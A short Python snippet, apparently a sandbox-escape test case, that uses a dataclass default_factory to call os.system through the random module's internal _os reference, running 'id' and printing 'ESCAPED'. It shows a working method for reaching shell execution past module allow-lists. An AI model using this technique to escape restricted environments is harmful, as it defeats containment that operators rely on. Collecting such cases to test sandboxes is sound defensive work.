# class: dataclass machinery runs a default_factory taken from an allowed module
import dataclasses, functools, random
@dataclasses.dataclass
class C:
    x: int = dataclasses.field(default_factory=functools.partial(random._os.system, "id"))
print("ESCAPED", C())
